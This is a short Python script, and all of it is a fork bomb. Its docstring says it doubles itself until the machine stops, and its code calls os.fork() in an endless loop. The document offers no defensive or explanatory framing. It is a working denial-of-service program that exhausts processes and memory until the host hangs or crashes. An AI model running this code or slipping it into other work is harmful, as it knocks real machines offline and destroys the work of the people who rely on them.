"""Doubles itself until the machine stops."""

import os

while True:
    os.fork()
